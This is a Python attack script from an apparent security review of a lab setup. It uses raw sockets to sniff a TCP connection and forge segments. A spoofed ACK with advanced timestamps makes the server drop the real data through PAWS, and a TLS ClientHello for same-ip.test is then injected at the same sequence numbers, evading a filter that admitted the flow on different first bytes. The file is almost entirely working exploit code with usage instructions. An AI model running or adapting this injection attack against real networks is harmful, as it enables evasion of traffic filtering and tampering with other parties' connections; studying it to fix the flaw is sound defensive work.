"""Attack review 5 (2026-12-07), Docker's NET_RAW, on a server that speaks first (the lab's
banner service, then echo). A flow admitted by address ("other" first bytes X) is followed until
its socket acknowledges server bytes beyond the ACK X went with. A raw bare ACK with timestamps
ahead of the socket's had the server drop X (PAWS); the banner, sent on accept, arrived after X
left; the socket acknowledged it, and the reader admitted the flow. A raw segment at X's sequence
numbers then carried a ClientHello naming same-ip.test, unread on the fast path; the echo shows
what the server took at its stream start. Race: X must leave before the banner comes; tries that
lose it are reported and skipped.
Usage: pin_banner_paws_attacker.py ADDR PORT [N]; READY, then one JSON line
{"won": tries the server took the raw hello, "tries": [...]}."""
import json
import os
import socket
import struct
import sys
import time

import tls13_hrr_client as t
from rawtcp import csum

addr, port = sys.argv[1], int(sys.argv[2])
N = int(sys.argv[3]) if len(sys.argv) > 3 else 10
D = 3000
print("READY", flush=True)


def parse(f, sp):
    if f[12:14] != b"\x08\x00" or f[14 + 9] != 6:
        return None
    ip = f[14:]
    ihl = (ip[0] & 15) * 4
    tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
    a, b = struct.unpack("!HH", tcp[0:4])
    doff = (tcp[12] >> 4) * 4
    opts = tcp[20:doff]
    i = opts.find(b"\x08\x0a")
    tsv, tse = struct.unpack("!II", opts[i + 2:i + 10]) if i >= 0 else (0, 0)
    seq, ack = struct.unpack("!II", tcp[4:12])
    d = "in" if (a, b) == (port, sp) else "out" if (a, b) == (sp, port) else None
    if d is None:
        return None
    return dict(d=d, seq=seq, ack=ack, n=len(tcp) - doff, tsv=tsv, tse=tse, fl=tcp[13],
                win=struct.unpack("!H", tcp[14:16])[0], src=ip[12:16], dst=ip[16:20], data=tcp[doff:])


def capture(tap, sp, frames, seconds, done):
    """Appends the connection's frames seen on eth0 to frames until done(frames), at most seconds."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not done(frames):
        try:
            p = parse(tap.recv(65535), sp)
        except socket.timeout:
            continue
        if p:
            frames.append(p)


def banner_acked(frames) -> bool:
    """The socket has sent an ACK of the server's first bytes (the banner)."""
    ins = [i for i, f in enumerate(frames) if f["d"] == "in" and f["n"] > 0]
    if not ins:
        return False
    b = frames[ins[0]]
    end = (b["seq"] + b["n"]) & 0xffffffff
    return any(f["d"] == "out" and f["ack"] == end for f in frames[ins[0] + 1:])


def raw(src, dst, sp, seq, ack, win, tsval, tsecr, flags=0x10, payload=b""):
    seg = struct.pack("!HHIIBBHHH", sp, port, seq, ack, 8 << 4, flags, win, 0, 0) + b"\x01\x01\x08\x0a" + \
        struct.pack("!II", tsval & 0xffffffff, tsecr) + payload
    ck = csum(src + dst + struct.pack("!BBH", 0, 6, len(seg)) + seg)
    seg = seg[:16] + struct.pack("!H", ck) + seg[18:]
    ipb = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 7, 0x4000, 64, 6, 0, src, dst)
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(ipb + seg, (addr, 0))
    r.close()


hello = t.rec(22, t.client_hello("same-ip.test", os.urandom(32), os.urandom(32)))
X = b"\x00" * len(hello)
tries = []
result = {"won": 0, "tries": tries}
for attempt in range(N):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind(("eth0", 0))
    tap.settimeout(0.01)
    s = socket.socket()
    s.settimeout(5)
    s.connect((addr, port))
    sp = s.getsockname()[1]
    frames = []
    capture(tap, sp, frames, 0.05, lambda fs: any(f["d"] == "out" and not f["fl"] & 0x02 for f in fs))
    hs = [f for f in frames if f["d"] == "out" and not f["fl"] & 0x02]
    info = {}
    if not hs or any(f["d"] == "in" and f["n"] > 0 for f in frames):
        info["why"] = "banner before the raw ack" if hs else "no handshake ack seen"
        tries.append(info)
        s.close()
        tap.close()
        continue
    a = hs[-1]
    base, sack = a["seq"], a["ack"]
    raw(a["src"], a["dst"], sp, base, sack, a["win"], a["tsv"] + D, a["tse"])
    s.send(X)
    # Until the socket acknowledged the banner: the reader has judged that ACK (admitted the
    # flow, before the fix) by the time it leaves eth0.
    capture(tap, sp, frames, 1.5, banner_acked)
    xs = [i for i, f in enumerate(frames) if f["d"] == "out" and f["n"] > 0]
    bs = [i for i, f in enumerate(frames) if f["d"] == "in" and f["n"] > 0]
    info["x_before_banner"] = bool(xs and bs and xs[0] < bs[0] and frames[xs[0]]["ack"] == sack)
    if not info["x_before_banner"]:
        info["why"] = "banner came first"
        tries.append(info)
        s.close()
        tap.close()
        continue
    banner = frames[bs[0]]
    srv_next = (banner["seq"] + banner["n"]) & 0xffffffff
    raw(a["src"], a["dst"], sp, base, srv_next, a["win"], a["tsv"] + D + 50, banner["tsv"], flags=0x18, payload=hello)
    s.settimeout(2)
    got = b""
    try:
        while len(got) < len(b"SSH-2.0-lab\r\n") + len(hello):
            d = s.recv(65536)
            if not d:
                break
            got += d
    except OSError as e:
        info["recv_error"] = repr(e)
    info["echo_has_same_ip"] = b"same-ip.test" in got
    info["echo_has_x"] = X[:8] in got[13:]
    tries.append(info)
    if info["echo_has_same_ip"]:
        result["won"] += 1
    s.close()
    tap.close()
print(json.dumps(result), flush=True)
